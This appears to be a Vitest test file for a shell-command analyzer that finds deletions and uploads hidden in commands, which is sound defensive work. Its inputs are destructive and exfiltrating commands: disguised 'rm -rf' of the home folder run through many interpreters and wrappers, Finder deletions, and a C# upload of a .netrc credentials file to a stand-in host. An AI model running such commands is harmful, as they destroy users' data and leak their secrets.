import { describe, expect, it } from 'vitest'
import { shellFacts } from '../../../src/facts/shell/shell-facts.ts'

/** Lists each command that would run, with its arguments; `?` is an unknown part. */
function started(text: string): readonly string[] {
  const around = { cwd: '/home/u/proj', home: '/home/u', workspaceRoots: ['/home/u/proj'], env: {} }
  return shellFacts(text, around).commands.map(({ program, args }) =>
    [program, ...args.map(({ value }) => value.replaceAll('\uFDD0', '?'))].join(' '),
  )
}

describe('a deletion is found', () => {
  it.each([
    ['by the path of its program', '$(which rm) -rf ~'],
    ['by the path that a builtin prints', '$(command -v rm) -rf ~'],
    ['by its name in an unknown folder', '"$BIN/rm" -rf ~'],
    ['in a shell of an unknown folder', '"$BIN"/sh -c "rm -rf ~"'],
    ['of a path that is made absolute', 'rm -rf "$(realpath ~)"'],
    ['of a path whose links are followed', 'rm -rf "$(readlink -f ../../u)"'],
    ['in a script that tee has written', "echo 'rm -rf ~' | tee x.sh; bash x.sh"],
    ['in a script that tee has written as another user', "echo 'rm -rf ~' | sudo tee /tmp/x.sh; bash /tmp/x.sh"],
    ['behind the dynamic loader', '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~'],
    ['behind a job queue', 'tsp rm -rf ~'],
    ['behind a program that makes it a daemon', 'daemonize /bin/rm -rf ~'],
    ['as another group', "sg docker -c 'rm -rf ~'"],
  ])('%s: %s', (_, text) => {
    expect(started(text)).toContain('rm -rf /home/u')
  })
})

describe('in a language without a scanner, a deletion is found', () => {
  it.each([
    `groovy -e '"rm -rf /home/u".execute()'`,
    `groovy -e 'new File("/home/u").deleteDir()'`,
    `scala -e 'import sys.process._; "rm -rf /home/u".!'`,
    `elixir -e 'File.rm_rf!("/home/u")'`,
    `elixir -e 'System.cmd("rm", ["-rf", "/home/u"])'`,
    `erl -noshell -eval 'os:cmd("rm -rf ~"), halt().'`,
    `guile -c '(system* "rm" "-rf" "/home/u")'`,
    `sbcl --eval '(uiop:run-program "rm -rf ~")'`,
    `racket -e '(delete-directory/files "~")'`,
    `jshell <<< 'Runtime.getRuntime().exec("rm -rf /home/u")'`,
    `jshell --execution local - <<< 'Files.walk(Path.of("/home/u")).forEach(p -> p.toFile().delete());'`,
    `jshell - <<< 'FileUtils.deleteDirectory(new File(System.getProperty("user.home")))'`,
    `csharp -e 'System.IO.Directory.Delete("/home/u", true);'`,
    `csharp -e 'Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);'`,
    `csharp -e 'Directory.Delete(Path.Combine("/home", "u"), true);'`,
    `csharp -e 'Process.Start("bash", "-c \\"rm -rf /home/u\\"");'`,
    `csharp -e 'new ProcessStartInfo { FileName = "rm", Arguments = "-rf /home/u" };'`,
    `gdscript -e 'OS.execute("rm", ["-rf", "/home/u"])'`,
    `tclsh <<< 'file delete -force /home/u'`,
  ])('%s', (text) => {
    expect(started(text)).toContain('rm -rf /home/u')
  })

  it('but not in text that is only printed', () => {
    expect(started(`groovy -e 'println "rm -rf /home/u"'`)).not.toContain('rm -rf /home/u')
    expect(started(`csharp -e 'Console.WriteLine("rm -rf /home/u");'`)).not.toContain('rm -rf /home/u')
  })

  it('a file that is read and sent is sent by curl, and one that is only read is not', () => {
    const send = `new WebClient().UploadString("https://a.example", File.ReadAllText("/home/u/.netrc"));`
    expect(started(`csharp -e '${send}'`)).toContain('curl -T /home/u/.netrc https://a.example')
    expect(started(`csharp -e 'File.ReadAllText("/home/u/a.json");'`).join()).not.toContain('curl')
  })
})

describe('what Finder is told to delete goes to the trash', () => {
  it.each([
    [`tell application "Finder" to delete POSIX file "/home/u"`, 'trash /home/u'],
    [`tell app "Finder" to delete (path to home folder)`, 'trash /home/u'],
    [`tell app "Finder" to move POSIX file "/home/u/a" to trash`, 'trash /home/u/a'],
    [`tell app "Finder" to delete folder "Documents" of home`, 'trash /home/u/Documents'],
    [`tell app "Finder" to delete every item of (path to documents folder)`, 'trash /home/u/Documents'],
    [`tell app "Finder" to delete alias "Macintosh HD:Users:u:Documents:"`, 'trash /Users/u/Documents'],
    [`tell application "System Events" to delete folder "/home/u/a"`, 'trash /home/u/a'],
  ])('%s', (script, expected) => {
    expect(started(`osascript -e '${script}'`)).toContain(expected)
  })

  it('and what it only shows does not', () => {
    expect(started(`osascript -e 'tell app "Finder" to reveal POSIX file "/home/u/a"'`).join()).not.toContain('trash')
    expect(started(`osascript -e 'tell app "Finder" to move POSIX file "/a" to folder "b"'`).join()).not.toContain(
      'trash',
    )
  })
})

it('code that is too long in such a language is reported', () => {
  const around = { cwd: '/w', workspaceRoots: ['/w'] }
  const { commands } = shellFacts(`groovy -e '${'"\\'.repeat(4000)}'`, around)
  expect(commands[0]?.uncertain.join()).toMatch(/longer than is analyzed/)
})

describe('unknown parts stay unknown', () => {
  it.each([
    ['a link that is only read', 'rm -rf "$(readlink x)"', 'rm -rf /home/u/proj/x'],
    ['a program whose name is partly unknown', '"$BIN/r$M" -rf ~', 'rm -rf /home/u'],
  ])('%s: %s', (_, text, command) => {
    expect(started(text)).not.toContain(command)
  })
})
